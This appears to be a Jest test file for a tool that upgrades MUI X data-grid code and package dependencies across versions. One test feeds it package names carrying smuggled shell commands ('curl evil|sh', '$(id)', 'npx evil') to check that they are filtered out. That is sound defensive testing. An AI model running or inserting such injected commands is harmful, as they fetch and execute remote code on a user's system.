import { detectVersion } from '../../upgrade/detectVersion';
import { diffLines } from '../../upgrade/diffLines';
import { findHits } from '../../upgrade/findHits';
import { stepsOf } from '../../upgrade/loadFacts';
import { packagesFor } from '../../upgrade/packagesFor';
import { runCodemods } from '../../upgrade/runCodemods';
import type { Releases, UpgradeFacts } from '../../upgrade/types';
import { upgradeFiles, applyEdits } from '../../upgrade/upgradeFiles';

/** Comparison of a grid with two renamed props, a removed one and a renamed type. */
const FACTS: UpgradeFacts = {
  from: 'v6',
  to: 'current',
  guides: [],
  comparisons: [
    {
      family: 'data-grid',
      changes: [
        {
          kind: 'component',
          name: 'DataGrid',
          kinds: [],
          fromSlug: 'data-grid',
          toSlug: 'data-grid',
          members: [
            { member: 'prop', name: 'columnHeight', formerName: 'headHeight', kinds: ['renamed'] },
            { member: 'prop', name: 'oldProp', kinds: ['removed'], instead: 'newProp' },
          ],
        },
        {
          kind: 'type',
          name: 'GridNow',
          formerName: 'GridThen',
          kinds: ['renamed'],
          fromSlug: null,
          toSlug: null,
          members: [],
        },
      ],
    },
  ],
};

const CODE = `import { DataGrid, GridThen, deDE } from '@mui/x-data-grid';

const row: GridThen = { id: 1 };
export const Grid = () => (
  <DataGrid components={{ Toolbar: Bar }} headHeight={40} oldProp rows={[row]} />
);
`;

test('rewrites names that have a replacement, and lists the rest', () => {
  const { files, codemods, left } = upgradeFiles(
    [{ name: 'Grid.tsx', text: CODE }],
    { whole: FACTS, steps: [FACTS] },
    runCodemods,
  );
  expect(files[0]!.after).toBe(`import { DataGrid, GridNow } from '@mui/x-data-grid';
import { deDE } from '@mui/x-data-grid/locales';

const row: GridNow = { id: 1 };
export const Grid = () => (
  <DataGrid slots={{ toolbar: Bar }} columnHeight={40} oldProp rows={[row]} />
);
`);
  expect(codemods).toEqual(['@mui/x-codemod v7.0.0/preset-safe']);
  expect(left.hits.map(({ name, change, instead }) => [name, change, instead])).toEqual([
    ['oldProp', 'removed', 'newProp'],
  ]);
});

test('lists names that the later version lacks, even if a codemod wrote them', () => {
  const names = {
    'data-grid': { DataGrid: ['rows', 'columnHeight', 'slots', 'slots.toolbar'], GridNow: null },
  };
  const { left } = upgradeFiles(
    [{ name: 'Grid.tsx', text: CODE }],
    { whole: { ...FACTS, names }, steps: [FACTS] },
    ({ text }) => ({
      text: text
        .replace('rows=', 'wrong slots={{ toolbar: Bar, tolbar: Bar }} rows=')
        .replace('GridThen,', 'GridThen, GridWrong,'),
      codemod: 'wrong',
    }),
  );
  expect(left.hits.filter(({ change }) => change === 'missing').map(({ name }) => name)).toEqual([
    'GridWrong',
    'components',
    'Toolbar',
    'wrong',
    'tolbar',
  ]);
});

test('continues without a codemod that fails', () => {
  const { files, left } = upgradeFiles(
    [{ name: 'Grid.tsx', text: CODE }],
    { whole: FACTS, steps: [FACTS] },
    () => {
      throw new Error('no');
    },
  );
  expect(left.failures).toEqual([{ file: 'Grid.tsx', message: 'no' }]);
  expect(files[0]!.after).toContain('columnHeight={40}');
});

test('reports a file that cannot be parsed, with the location', () => {
  const { hits, failures } = findHits([{ name: 'a.tsx', text: 'const = 1;' }], FACTS);
  expect(hits).toEqual([]);
  expect(failures[0]).toMatchObject({
    file: 'a.tsx',
    message: expect.stringContaining('a.tsx:1:'),
  });
});

test.each([
  [
    'a name that the file declares, too',
    `import { GridThen } from '@mui/x-data-grid';\nfunction f(GridThen) { return GridThen; }`,
    `import { GridNow as GridThen } from '@mui/x-data-grid';\nfunction f(GridThen) { return GridThen; }`,
  ],
  [
    'a shorthand',
    `import { GridThen } from '@mui/x-data-grid';\nexport const all = { GridThen };`,
    `import { GridNow } from '@mui/x-data-grid';\nexport const all = { GridThen: GridNow };`,
  ],
  [
    'what is exported again',
    `import { GridThen } from '@mui/x-data-grid';\nexport { GridThen };`,
    `import { GridNow } from '@mui/x-data-grid';\nexport { GridNow as GridThen };`,
  ],
  [
    'an import under another name',
    `import { GridThen as Then } from '@mui/x-data-grid';\nconst x: Then = 1;`,
    `import { GridNow as Then } from '@mui/x-data-grid';\nconst x: Then = 1;`,
  ],
])('renames %s', (_what, before, after) => {
  const { hits } = findHits([{ name: 'a.ts', text: before }], FACTS);
  expect(
    applyEdits(
      before,
      hits.flatMap(({ edits }) => edits),
    ),
  ).toBe(after);
});

test('a diff keeps unchanged lines between changed ones', () => {
  expect(diffLines('a\nb\nc\nd', 'a\nx\nc\ny\nd')).toEqual([
    { kind: 'same', text: 'a', line: 1 },
    { kind: 'removed', text: 'b', line: 2 },
    { kind: 'added', text: 'x', line: 2 },
    { kind: 'same', text: 'c', line: 3 },
    { kind: 'added', text: 'y', line: 4 },
    { kind: 'same', text: 'd', line: 5 },
  ]);
});

test('an upgrade goes through all intermediate versions', () => {
  expect(stepsOf({ from: 'v5', to: 'next' })).toEqual([
    { from: 'v5', to: 'v6' },
    { from: 'v6', to: 'current' },
    { from: 'current', to: 'next' },
  ]);
});

test('detects the earliest version among the packages', () => {
  expect(detectVersion({ '@mui/x-data-grid': '^6.1.0', '@mui/x-charts': '~7.0.0' })).toBe('v6');
  expect(detectVersion({ '@material-ui/data-grid': '4.0.0-alpha.37' })).toBe('v4');
  expect(detectVersion({ react: '18' })).toBeNull();
});

test('installs the later release, its license package and incompatible peers', () => {
  const releases: Releases = {
    current: [
      {
        name: '@mui/x-data-grid-pro',
        release: '7.28.3',
        peers: { '@mui/material': '^5.15.14 || ^6.0.0', react: '^17.0.0 || ^18.0.0' },
      },
      { name: '@mui/x-license', release: '7.28.0', peers: { react: '^17.0.0 || ^18.0.0' } },
    ],
  };
  expect(
    packagesFor(
      ['@mui/x-data-grid-pro/DataGridPro', '@mui/x-license-pro'],
      { '@mui/material': '^5.0.0 <5.2.0', react: '^18.2.0' },
      { from: 'v6', to: 'current' },
      releases,
    ),
  ).toEqual({
    install: ['@mui/x-data-grid-pro@7.28.3', '@mui/x-license@7.28.0', '@mui/material@^5.15.14'],
    uninstall: ['@mui/x-license-pro'],
  });
});

const LATER: Releases = {
  current: [
    {
      name: '@mui/x-data-grid',
      release: '7.28.3',
      peers: { '@mui/material': '^5.15.14 || ^6.0.0 || ^7.0.0', react: '^17.0.0 || ^18.0.0' },
    },
    { name: '@mui/x-date-pickers', release: '7.28.3', peers: {} },
  ],
};

test.each([
  ['what fits', { '@mui/material': '^7.0.1', react: '^18.2.0' }],
  ['what is unknown', {}],
  ['what is later than every range', { react: '^19.0.0', '@mui/material': 'latest' }],
])('does not replace a peer that %s', (_what, declared) => {
  const { install } = packagesFor(
    ['@mui/x-data-grid'],
    declared,
    { from: 'v6', to: 'current' },
    LATER,
  );
  expect(install).toEqual(['@mui/x-data-grid@7.28.3']);
});

test('keeps a package that is newer than the release', () => {
  const declared = { '@mui/x-data-grid': '^6.0.0', '@mui/x-date-pickers': '^8.1.0' };
  expect(packagesFor([], declared, { from: 'v6', to: 'current' }, LATER).install).toEqual([
    '@mui/x-data-grid@7.28.3',
  ]);
});

test('commands contain only valid package names', () => {
  const declared = {
    '@material-ui/data-grid': '4',
    '@material-ui/data-grid;curl evil|sh #': '4',
    '@material-ui/x-grid$(id)': '4',
    '@material-ui/data-grid\nnpx evil': '4',
  };
  expect(packagesFor([], declared, { from: 'v4', to: 'current' }, LATER)).toEqual({
    install: ['@mui/x-data-grid@7.28.3'],
    uninstall: ['@material-ui/data-grid'],
  });
});

const upgradeGrid = (text: string, codemod = (code: string) => code) =>
  upgradeFiles([{ name: 'Grid.tsx', text }], { whole: FACTS, steps: [FACTS] }, (file) => ({
    text: codemod(file.text),
    codemod: 'test',
  }));

test('does not rename a prop to one that the element already has', () => {
  const text = `import { DataGrid } from '@mui/x-data-grid';
export const a = <DataGrid headHeight={40} columnHeight={50} />;
`;
  const { files, left } = upgradeGrid(text);
  expect(files[0]!.after).toBe(text);
  expect(left.hits.map(({ name, change }) => [name, change])).toEqual([['headHeight', 'renamed']]);
});

test.each([
  ['drop a comment', (code: string) => code.replace('/* all */ ', '')],
  ['give the prop rows twice', (code: string) => code.replace('id="a"', 'rows={[]}')],
])('does not apply a codemod that would %s', (loss, codemod) => {
  const text = `import { DataGrid } from '@mui/x-data-grid';
export const a = <DataGrid /* all */ rows={[]} id="a" headHeight={40} />;
`;
  const { files, left } = upgradeGrid(text, codemod);
  expect(files[0]!.after).toBe(text.replace('headHeight', 'columnHeight'));
  expect(left.failures[0]!.message).toContain(loss);
});

test('accepts keys and props with the names of inherited properties', () => {
  const text = `import { DataGrid } from '@mui/x-data-grid';
const shapes = { filter: { constructor: 1, toString: 2, hasOwnProperty: 3 } };
export const a = (
  <DataGrid toString={1} constructor={2} headHeight={40} initialState={{ constructor: { __proto__: 1 } }} {...shapes} />
);
`;
  const { left, files } = upgradeGrid(text);
  expect(left.failures).toEqual([]);
  expect(files[0]!.after).toContain('columnHeight={40}');
});
